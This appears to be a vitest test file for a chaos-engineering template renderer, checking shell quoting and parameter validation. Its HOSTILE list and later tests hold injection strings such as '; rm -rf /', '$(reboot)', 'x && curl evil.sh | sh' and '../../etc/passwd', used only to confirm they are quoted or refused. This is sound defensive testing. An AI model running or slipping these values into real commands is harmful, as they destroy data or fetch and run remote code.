import { execFileSync } from "node:child_process";
import { describe, expect, it } from "vitest";
import { shellQuote } from "./shell";
import { TEMPLATES, commandLines, defaultParameters, findTemplate, renderTemplate } from "./templates";

const HOSTILE = ["; rm -rf /", "`reboot`", "$(reboot)", "eth0\nrm -rf /", "a'b", "x && curl evil.sh | sh", "--help", "../../etc/passwd", ""];

describe("shell quoting", () => {
  it.each(HOSTILE.concat(["plain-word", "it's", "tab\there", "ünïcode"]))("%j survives a POSIX shell unchanged", (value) => {
    const echoed = execFileSync("sh", ["-c", `printf '%s' ${shellQuote(value)}`], { encoding: "utf8" });
    expect(echoed).toBe(value);
  });
});

describe("templates", () => {
  it("every template renders with its defaults, with a rollback, a health probe and shell-quoted commands", () => {
    for (const template of TEMPLATES) {
      const rendered = renderTemplate(template, defaultParameters(template));
      expect(rendered.ok, template.key).toBe(true);
      if (!rendered.ok) continue;
      expect(rendered.experiment.method.length).toBeGreaterThan(0);
      expect(rendered.experiment.rollbacks.length, `${template.key} has a rollback`).toBeGreaterThan(0);
      expect(rendered.experiment.steadyStateHypothesis.probes[0]!.provider.type).toBe("http");
    }
  });

  it("renders the seed's commands", () => {
    const render = (key: string, params: Record<string, string> = {}) => {
      const template = findTemplate(key)!;
      const result = renderTemplate(template, { ...defaultParameters(template), ...params });
      if (!result.ok) throw new Error(JSON.stringify(result.fieldErrors));
      return { method: commandLines(result.experiment.method), rollbacks: commandLines(result.experiment.rollbacks) };
    };
    expect(render("stop-container", { container: "abc123" })).toEqual({ method: ["docker stop abc123"], rollbacks: ["docker start abc123"] });
    expect(render("load-health-endpoint", { targetUrl: "https://shop.example.com/health" }).method).toEqual([
      "wrk -t12 -c400 -d30s https://shop.example.com/health",
    ]);
    expect(render("burn-cpu").method).toEqual(["stress-ng --cpu 0 --cpu-method matrixprod -t 60s"]);
    expect(render("network-latency", { interface: "eth1", delayMs: "250" })).toEqual({
      method: ["tc qdisc add dev eth1 root netem delay 250ms"],
      rollbacks: ["tc qdisc del dev eth1 root netem"],
    });
    expect(render("block-dns")).toEqual({
      method: ["iptables -A INPUT -p tcp -m tcp --dport 53 -j DROP"],
      rollbacks: ["iptables -D INPUT -p tcp -m tcp --dport 53 -j DROP"],
    });
    expect(render("fill-disk", { directory: "/data/", size: "2G" })).toEqual({
      method: ["fallocate -l 2G /data/andon-fill-disk"],
      rollbacks: ["rm -f /data/andon-fill-disk"],
    });
  });

  const parameterCases = TEMPLATES.flatMap((template) =>
    template.parameters
      .filter((parameter) => parameter.name !== "protocol")
      .flatMap((parameter) => HOSTILE.map((value) => [template.key, parameter.name, value] as const)),
  );
  it.each(parameterCases)("%s refuses %s = %j with a field error", (key, name, value) => {
    const template = findTemplate(key)!;
    const result = renderTemplate(template, { ...defaultParameters(template), [name]: value });
    expect(result.ok).toBe(false);
    if (!result.ok) expect(result.fieldErrors[`parameters.${name}`]?.length).toBeGreaterThan(0);
  });

  it("refuses a URL that is not http(s) and a protocol that is not tcp or udp", () => {
    const latency = findTemplate("network-latency")!;
    expect(renderTemplate(latency, { ...defaultParameters(latency), healthUrl: "file:///etc/passwd" }).ok).toBe(false);
    const dns = findTemplate("block-dns")!;
    expect(renderTemplate(dns, { ...defaultParameters(dns), protocol: "icmp; rm -rf /" }).ok).toBe(false);
  });

  it("quotes what a hand-edited experiment puts in a command line", () => {
    const lines = commandLines([{ type: "action", name: "x", provider: { type: "process", path: "echo", arguments: ["; rm -rf /", "`id`", "a\nb"] } }]);
    expect(lines).toEqual(["echo '; rm -rf /' '`id`' 'a\nb'"]);
  });
});
